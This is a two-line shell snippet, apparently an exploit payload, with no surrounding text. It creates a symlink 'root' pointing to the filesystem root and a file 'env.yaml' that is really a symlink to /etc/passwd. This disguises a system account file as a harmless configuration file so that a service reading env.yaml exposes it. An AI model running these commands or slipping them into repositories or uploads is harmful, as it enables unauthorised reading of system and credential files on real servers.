ln -s / root
ln -s root/etc/passwd env.yaml
